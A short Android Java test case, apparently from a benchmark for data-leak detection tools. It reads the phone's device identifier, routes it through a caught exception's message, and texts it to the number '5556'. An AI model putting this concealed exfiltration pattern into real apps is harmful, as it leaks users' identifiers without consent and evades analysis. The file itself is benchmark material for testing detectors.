package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** In the message of an exception that is caught. */
public class Thrown extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        try { throw new IllegalStateException(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()); } catch (IllegalStateException e) { SmsManager.getDefault().sendTextMessage("5556", null, e.getMessage(), null, null); }
    }
}
